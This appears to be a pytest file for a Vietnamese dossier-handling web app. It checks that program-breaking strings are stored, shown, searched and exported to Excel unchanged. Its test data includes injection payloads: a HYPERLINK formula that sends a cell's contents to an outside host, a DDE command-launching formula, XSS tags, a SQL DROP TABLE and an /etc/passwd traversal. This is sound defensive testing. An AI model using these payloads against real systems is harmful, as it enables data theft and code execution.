"""Text that breaks programs goes through intake, page, search and spreadsheet and comes out as it went in.

The list of outsiders is used by the verdict that its manifest gives: «any text field: stored, shown, exported,
searched unchanged». What ``clean`` takes away at the door – invisible letters, doubled spaces – is the only change.
"""

import html
import io
import json
import os
import random
import unicodedata
from dataclasses import replace
from datetime import timedelta
from pathlib import Path

import pytest
from lxml import html as tree
from python_calamine import CalamineWorkbook

from motcua.dossiers.models import Dossier
from motcua.dossiers.tests.factories import NOW, OWNER, official, received
from motcua.dossiers.tests.screens import Screens, screens
from motcua.kernel.commands import Refused
from motcua.kernel.text import clean, search_key

__all__ = ["screens"]
CASES = Path(os.environ["MOTCUA_CASES"]) / "cases"
VERDICT = "any text field: stored, shown, exported, searched unchanged"
SEED, SOME, LONGEST_NAME = 20261125, 36, 200
OWN = (
    '=HYPERLINK("http://ke.gian/?x="&A1,"bấm")', "@SUM(1+1)*cmd|' /C calc'!A0", "+84-905", "-1+1", "1E5", "0x41", "NULL",
    "undefined", "true", "01/02/2026", "{{ 7*7 }}", "${7*7}", "%s%d%n", "%00", "&lt;b&gt; &amp;amp;", "</td></tr><script>x()</script>",
    "<img src=x onerror=x()>", "'; DROP TABLE dossiers_dossier; --", "_%\\_", "../../etc/passwd", "Y Bhăm Êñuôl H’Ƀơh",
    "Ｎｇｕｙễｎ Ｖăｎ Ａ", "田中さんにあげて下さい", "هذا الاسم", "👩‍👩‍👧‍👦 🇻🇳", "ﷺ ẛ̣ ſ ﬁ", "Z̷a̸l̵g̶o̷", "a" * 200,
    "ﷺ" * 200, "a\u0300\u0323\u0337" * 100,
)  # fmt: skip
pytestmark = [pytest.mark.promise("P22"), pytest.mark.django_db]


def outsiders() -> list[str]:
    """Return every string that the manifest says must pass every text field unchanged."""
    if not (CASES / "MANIFEST.json").exists():
        pytest.skip("no outsiders' cases beside the repository (MOTCUA_CASES)")
    files = [case["file"] for case in json.loads((CASES / "MANIFEST.json").read_text()) if case["expect"] == VERDICT]
    listed = [json.loads((CASES / name).read_text()) for name in files if name.endswith(".json")]
    assert listed, "the manifest names no list of strings any more"
    return [text for one in listed for text in one]


def plain(text: str) -> bool:
    """Tell, without asking our own rule, whether nothing invisible or doubled stands in the text."""
    hidden = {"Cc", "Cf", "Cs", "Zl", "Zp"}
    letters = text.replace("\u200d", "")
    return (
        text == " ".join(text.split()) == unicodedata.normalize("NFC", text)
        and not {unicodedata.category(letter) for letter in letters} & hidden
    )


def kept(screens: Screens, text: str, turn: int) -> Dossier | None:
    """Hand in a dossier in whose text fields this stands; None where an empty or an overlong name is refused in words."""
    owner = replace(OWNER, name=text, address_line=text, id_number=f"0660{turn:08d}", phone="")
    given = {"at": NOW + timedelta(seconds=turn), "owner": owner, "request": text}
    if not clean(text) or len(clean(text)) > LONGEST_NAME:
        with pytest.raises(Refused) as refused:
            received(screens.place, **given)
        assert any("name" in field for field in refused.value.fields)
        return None
    return Dossier.objects.get(id=received(screens.place, **given).id)


def go_through(screens: Screens, texts: list[str]) -> int:
    """Take every text through all four ways; return how many were plain, so that not a letter of them may change."""
    found = {text: made for turn, text in enumerate(texts) if (made := kept(screens, text, turn))}
    for text, made in found.items():
        stored = text if plain(text) else clean(text)
        assert (made.owner_name, made.owner_address, made.request) == (stored, stored, stored)
        assert shown(screens, f"/ho-so/{made.id}/", stored), text
        assert searched(screens, text, made), text
    assert exported(screens) == {str(made.code): made.owner_name for made in found.values()}
    return sum(plain(text) for text in found)


def shown(screens: Screens, path: str, stored: str) -> bool:
    page = screens.get(screens.place.clerk, path)
    assert page.status_code == 200
    return stored in " ".join(tree.fromstring(page.content.decode()).text_content().split())


def searched(screens: Screens, text: str, made: Dossier) -> bool:
    """What has letters to search for finds its dossier, in the list or opened at once; the rest finds no error."""
    answer = screens.get(screens.place.clerk, "/ho-so/tim/", data={"q": text})
    if answer.status_code != 200:
        return answer.status_code in {302, 303} and str(made.id) in answer["Location"]
    letters = [letter for letter in search_key(text) if letter.isalpha()]
    return str(made.code) in html.unescape(answer.content.decode()) or len(letters) < 3


def exported(screens: Screens) -> dict[str, str]:
    taker = official(screens.place.agency, ["dossiers.read", "dossiers.export"], name="Y Krang Niê")
    answer = screens.client(taker).post("/ho-so/xuat-excel/", {"tu": "01/10/2026"})
    book = CalamineWorkbook.from_filelike(io.BytesIO(b"".join(answer.streaming_content)))
    head, *lines = book.get_sheet_by_index(0).to_python()
    rows = [dict(zip(head, line, strict=True)) for line in lines]
    assert all(row["Chủ hồ sơ"] == row["Địa chỉ"] for row in rows)
    # U+FFFE is no letter and may stand in no XML; ECMA-376 writes it as _xFFFE_, which spreadsheets read back
    return {str(row["Mã hồ sơ"]): row["Chủ hồ sơ"].replace("_xFFFE_", "\ufffe") for row in rows}


def test_text_that_breaks_programs_is_stored_shown_searched_and_exported_unchanged(screens: Screens) -> None:
    assert go_through(screens, list(OWN)) >= len(OWN) - 3


def test_some_strings_of_outsiders_come_out_as_they_went_in(screens: Screens) -> None:
    texts = sorted(set(outsiders()))
    assert go_through(screens, random.Random(SEED).sample(texts, SOME)) > SOME // 2


@pytest.mark.full
def test_every_string_of_outsiders_comes_out_as_it_went_in(screens: Screens) -> None:
    texts = sorted(set(outsiders()))
    assert len(texts) > 500
    assert go_through(screens, texts) > 300
